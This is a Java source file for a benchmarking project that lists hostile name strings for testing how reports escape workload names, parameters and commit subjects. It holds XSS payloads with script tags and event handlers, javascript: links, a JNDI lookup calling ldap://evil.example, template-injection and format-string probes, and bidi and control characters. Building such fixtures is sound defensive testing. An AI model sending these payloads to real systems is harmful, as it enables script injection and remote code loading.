package io.github.perfgate.core.result;

import java.util.List;

/** Names that a workload, a parameter value or a commit's subject can have and should not. */
public final class HostileNames {
  public static final List<String> ALL =
      List.of(
          "<script>alert(1)</script>",
          "</script><img src=x onerror=alert(1)>",
          "</title></style></textarea><svg onload=alert(1)>",
          "\" onmouseover=\"alert(1)\" x=\"' autofocus onfocus='alert(1)",
          "first line\nsecond line\r\nthird\ttab",
          "](javascript:alert(1)) [x](javascript:alert(1)) ![i](http://evil.example/i.png)",
          "]]> <![CDATA[ <!-- --> <?xml ?> &amp; &#0; &lt;",
          "a | b \\| c `code` ``two`` *bold* _em_ ~~gone~~ $x^2$ # 1. - + > @user #12 :tada:",
          "https://evil.example www.evil.example mail@evil.example <https://evil.example>",
          "\u0000\u0001\u0007\b\u000B\f\u001B[31mred\u001B[0m\u007F\u0085\u009F\uFFFE\uFFFF",
          "half of a pair \uD83D here, \uDE00 there; a whole one \uD83D\uDE00",
          "right to left \u202Egnp.exe\u202C \u2066isolated\u2069 \u2028separated\u2029",
          "${jndi:ldap://evil.example} #{7*7} {{7*7}} %s %n \\u0041",
          "",
          "   ",
          "x".repeat(10_000),
          "wide ".repeat(2_000));

  private HostileNames() {}
}
